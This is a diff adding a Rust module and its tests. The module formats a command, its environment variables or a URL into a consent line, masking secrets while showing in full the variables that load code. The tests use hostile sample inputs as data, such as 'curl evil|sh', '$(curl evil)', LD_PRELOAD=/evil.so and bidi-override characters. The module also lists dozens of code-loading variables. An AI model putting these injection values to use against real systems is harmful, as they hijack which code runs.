@@ -1,0 +1,274 @@
+//! What a person agrees to before a command runs.
+//!
+//! Whatever is hidden here can hide code, so the command, its arguments and its directory are shown in full, and hidden
+//! characters become escapes. Only values of variables and headers are masked, and of URLs the user and the query.
+//! Variables that decide which code runs are part of the command and are shown too.
+
+use crate::mask;
+use crate::tree::Tree;
+use crate::visible::escaped;
+
+/// Variables by which a linker, an interpreter, a shell or git loads or runs other code.
+const LOADERS: [&str; 70] = [
+    "_JAVA_OPTIONS",
+    "BASHOPTS",
+    "BASH_ENV",
+    "BROWSER",
+    "BUNDLE_GEMFILE",
+    "CDPATH",
+    "CLASSPATH",
+    "COMSPEC",
+    "DOCKER_CONFIG",
+    "DOCKER_HOST",
+    "DOTNET_STARTUP_HOOKS",
+    "EDITOR",
+    "ENV",
+    "GCONV_PATH",
+    "GEM_HOME",
+    "GEM_PATH",
+    "GIT_ASKPASS",
+    "GIT_EDITOR",
+    "GIT_EXEC_PATH",
+    "GIT_EXTERNAL_DIFF",
+    "GIT_PAGER",
+    "GIT_PROXY_COMMAND",
+    "GIT_SEQUENCE_EDITOR",
+    "GIT_SSH",
+    "GIT_SSH_COMMAND",
+    "GIT_TEMPLATE_DIR",
+    "GLIBC_TUNABLES",
+    "GRADLE_OPTS",
+    "HOME",
+    "IFS",
+    "JAVA_HOME",
+    "JAVA_TOOL_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "LESSCLOSE",
+    "LESSOPEN",
+    "LUA_CPATH",
+    "LUA_INIT",
+    "LUA_PATH",
+    "MANPAGER",
+    "MAVEN_OPTS",
+    "NODE_EXTRA_CA_CERTS",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "NODE_REPL_EXTERNAL_MODULE",
+    "OPENSSL_CONF",
+    "OPENSSL_ENGINES",
+    "OPENSSL_MODULES",
+    "PAGER",
+    "PATH",
+    "PERL5DB",
+    "PERL5LIB",
+    "PERL5OPT",
+    "PERLLIB",
+    "PHPRC",
+    "PHP_INI_SCAN_DIR",
+    "PROMPT_COMMAND",
+    "PS4",
+    "RUBYLIB",
+    "RUBYOPT",
+    "RUSTC_WRAPPER",
+    "SHELL",
+    "SHELLOPTS",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "TCLLIBPATH",
+    "VIRTUAL_ENV",
+    "VISUAL",
+    "XDG_CONFIG_HOME",
+    "XDG_DATA_HOME",
+    "ZDOTDIR",
+];
+
+/// Whole families of them. `GIT_CONFIG_*` sets any option of git, programs to run among them.
+const LOADER_FAMILIES: [&str; 8] =
+    ["BASH_FUNC_", "CORECLR_", "DYLD_", "GIT_CONFIG_", "LD_", "PYTHON", "RUSTC_WORKSPACE_", "CONDA_"];
+
+/// Settings of package managers: where programs come from, and scripts that run on the way.
+const PACKAGE_FAMILIES: [&str; 11] =
+    ["BUN_", "BUNDLE_", "COREPACK_", "DENO_", "GOFLAGS", "GOPROXY", "NPM_CONFIG_", "PIP_", "PNPM_", "UV_", "YARN_"];
+
+/// What logs in to a registry chooses no code.
+const PACKAGE_SECRETS: [&str; 4] = ["_AUTH", "PASSWORD", "TOKEN", "_OTP"];
+
+/// Returns what an entry runs or reaches, on one line, quoted as a shell needs it.
+pub fn line(entry: &Tree) -> String {
+    let text = |name: &str| entry.get(name).and_then(Tree::as_text);
+    let members = |name: &str| entry.get(name).and_then(Tree::members).unwrap_or_default().iter();
+    if let Some(url) = text("url").filter(|_| text("command").is_none()) {
+        let headers: Vec<_> =
+            members("headers").map(|(name, value)| format!("{}: {}", word(name), masked(value))).collect();
+        let headers = if headers.is_empty() { String::new() } else { format!("  (with {})", headers.join(", ")) };
+        return address(url) + &headers;
+    }
+    if let Some(root) = text("root").filter(|_| text("command").is_none()) {
+        return format!("the files of {}", word(root));
+    }
+    let mut words: Vec<String> = members("env").map(variable).collect();
+    words.push(word(text("command").unwrap_or_default()));
+    if let Some(Tree::List(args)) = entry.get("args") {
+        words.extend(args.iter().filter_map(Tree::as_text).map(word));
+    }
+    let directory = text("cwd").map(|directory| format!("  (in {})", word(directory))).unwrap_or_default();
+    words.join(" ") + &directory
+}
+
+/// Returns whether the line leaves out a value.
+pub fn is_masked(entry: &Tree) -> bool {
+    let members = |name: &str| entry.get(name).and_then(Tree::members).unwrap_or_default().iter();
+    let url = entry.get("url").and_then(Tree::as_text).unwrap_or_default();
+    mask::url(url) != url
+        || members("headers").any(|(_, value)| masked(value) == mask::HIDDEN)
+        || members("env").any(|(name, value)| shown_value(name, value) == mask::HIDDEN)
+}
+
+/// Returns the URL without user and query. It has quotes where a part of it could pass for words of ours.
+fn address(url: &str) -> String {
+    let shown = escaped(&mask::url(url));
+    if shown.contains([' ', '(', ')', '\'']) { word(&shown) } else { shown }
+}
+
+fn masked(value: &Tree) -> String {
+    let shown = mask::value(value.as_text().unwrap_or_default());
+    if shown == mask::HIDDEN { shown } else { word(&shown) }
+}
+
+fn variable((name, value): &(String, Tree)) -> String {
+    match shown_value(name, value) {
+        // A mask needs no quotes; a value that looks like one gets them.
+        hidden if hidden == mask::HIDDEN => format!("{}={hidden}", word(name)),
+        shown => word(&format!("{name}={shown}")),
+    }
+}
+
+fn shown_value(name: &str, value: &Tree) -> String {
+    let text = value.as_text().unwrap_or_default();
+    match role(name) {
+        // As a literal it is no mask.
+        Role::Loader if text == mask::HIDDEN => format!("\\{text}"),
+        Role::Loader => text.to_owned(),
+        Role::Package if text.starts_with("http://") || text.starts_with("https://") => mask::url(text),
+        Role::Package => text.to_owned(),
+        Role::Plain => mask::value(text),
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Role {
+    /// Decides which code runs.
+    Loader,
+    /// Decides where a package manager finds code; the address may hold a password.
+    Package,
+    Plain,
+}
+
+/// Names count in any case, because npm and Windows read them so.
+fn role(name: &str) -> Role {
+    let name = name.to_ascii_uppercase();
+    let is_of = |families: &[&str]| families.iter().any(|family| name.starts_with(family));
+    if LOADERS.contains(&name.as_str()) || is_of(&LOADER_FAMILIES) {
+        Role::Loader
+    } else if is_of(&PACKAGE_FAMILIES) && !PACKAGE_SECRETS.iter().any(|secret| name.contains(secret)) {
+        Role::Package
+    } else {
+        Role::Plain
+    }
+}
+
+/// Returns the text as a shell takes it for one word. A reference stays as it is.
+fn word(text: &str) -> String {
+    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+=:,@%${}".contains(letter);
+    let escaped = escaped(text);
+    if !text.is_empty() && escaped.chars().all(is_plain) {
+        escaped
+    } else {
+        format!("'{}'", escaped.replace('\'', r"'\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn command(args: &[&str]) -> Tree {
+        Tree::object([("command", Tree::text("x")), ("args", Tree::texts(args.iter().copied()))])
+    }
+
+    fn with_variable(name: &str, value: &str) -> String {
+        let env = Tree::Object(vec![(name.to_owned(), Tree::text(value))]);
+        line(&Tree::object([("command", Tree::text("x")), ("env", env)]))
+    }
+
+    #[test]
+    fn hard8_a_command_is_shown_in_full() {
+        for (args, expected) in [
+            (&["a b", "", "it's"][..], r"x 'a b' '' 'it'\''s'"),
+            (&["-c", r"PASS=\;curl evil|sh"], r"x -c 'PASS=\;curl evil|sh'"),
+            (&["--no-auth", "evil-pkg"], "x --no-auth evil-pkg"),
+            (&["--token", "abc", "ghp_abc"], "x --token abc ghp_abc"),
+            (&["-c", "KEY='$(curl evil)'"], r"x -c 'KEY='\''$(curl evil)'\'''"),
+            (&["a://$(evil)@h/?b"], "x 'a://$(evil)@h/?b'"),
+            (&["***", "|", "${T}", "${T:-evil}"], "x '***' '|' ${T} ${T:-evil}"),
+            (&["a\u{202e}b", "\u{1b}[2J", "a\nb"], r"x 'a\u{202e}b' '\u{1b}[2J' 'a\nb'"),
+        ] {
+            assert_eq!(line(&command(args)), expected);
+        }
+        let placed = Tree::object([("command", Tree::text("./x")), ("cwd", Tree::text("/a b"))]);
+        assert_eq!(line(&placed), "./x  (in '/a b')");
+    }
+
+    #[test]
+    fn hard8_values_of_variables_are_masked_unless_they_choose_code() {
+        for (name, value, expected) in [
+            ("TOKEN", "abc", "TOKEN=*** x"),
+            ("TOKEN", "${T}", "TOKEN=${T} x"),
+            ("A B", "abc", "'A B'=*** x"),
+            ("LD_PRELOAD", "/evil.so", "LD_PRELOAD=/evil.so x"),
+            ("LD_PRELOAD", "***", r"'LD_PRELOAD=\***' x"),
+            ("DYLD_INSERT_LIBRARIES", "/evil", "DYLD_INSERT_LIBRARIES=/evil x"),
+            ("NODE_OPTIONS", "--require /evil.js", "'NODE_OPTIONS=--require /evil.js' x"),
+            ("PYTHONSTARTUP", "/evil.py", "PYTHONSTARTUP=/evil.py x"),
+            ("PERL5OPT", "-Mevil", "PERL5OPT=-Mevil x"),
+            ("BASH_ENV", "/evil", "BASH_ENV=/evil x"),
+            ("ENV", "/evil", "ENV=/evil x"),
+            ("path", "/evil:/bin", "path=/evil:/bin x"),
+            ("GIT_SSH_COMMAND", "evil", "GIT_SSH_COMMAND=evil x"),
+            ("GIT_CONFIG_VALUE_0", "evil", "GIT_CONFIG_VALUE_0=evil x"),
+            ("npm_config_script_shell", "/evil", "npm_config_script_shell=/evil x"),
+            ("npm_config_registry", "https://me:pw@evil/?k=v", "'npm_config_registry=https://***@evil/?***' x"),
+            ("npm_config__authToken", "abc", "npm_config__authToken=*** x"),
+            ("UV_PUBLISH_TOKEN", "abc", "UV_PUBLISH_TOKEN=*** x"),
+            ("LD_PRELOAD", "https://a@b/?c", "'LD_PRELOAD=https://a@b/?c' x"),
+            ("LD_PRELOAD", "a\u{202e}b", r"'LD_PRELOAD=a\u{202e}b' x"),
+        ] {
+            assert_eq!(with_variable(name, value), expected);
+        }
+    }
+
+    #[test]
+    fn hard8_of_urls_the_user_and_the_query_are_always_masked() {
+        for (url, expected) in [
+            ("https://me:pw@h/mcp", "https://***@h/mcp"),
+            ("https://good.example@evil.example/mcp", "https://***@evil.example/mcp"),
+            ("https://h/mcp?key=abc&b=c", "https://h/mcp?***"),
+            ("https://h/mcp?a#b", "https://h/mcp?***"),
+            ("https://h/\u{202e}pcm", r"https://h/\u{202e}pcm"),
+            ("https://h/${T:-x  (disabled)}", "'https://h/${T:-x  (disabled)}'"),
+        ] {
+            let entry = Tree::object([("url", Tree::text(url))]);
+            assert_eq!(line(&entry), expected);
+        }
+        let headers = Tree::object([("A", Tree::text("abc")), ("B", Tree::text("Bearer ${T}"))]);
+        let entry = Tree::object([("url", Tree::text("https://h")), ("headers", headers)]);
+        assert_eq!(line(&entry), "https://h  (with A: ***, B: 'Bearer ${T}')");
+        assert!(is_masked(&entry) && !is_masked(&command(&["--token", "abc"])));
+    }
+
+    #[test]
+    fn the_names_are_in_upper_case() {
+        let all = LOADERS.iter().chain(&LOADER_FAMILIES).chain(&PACKAGE_FAMILIES).chain(&PACKAGE_SECRETS);
+        all.for_each(|name| assert_eq!(**name, name.to_ascii_uppercase()));
+    }
+}
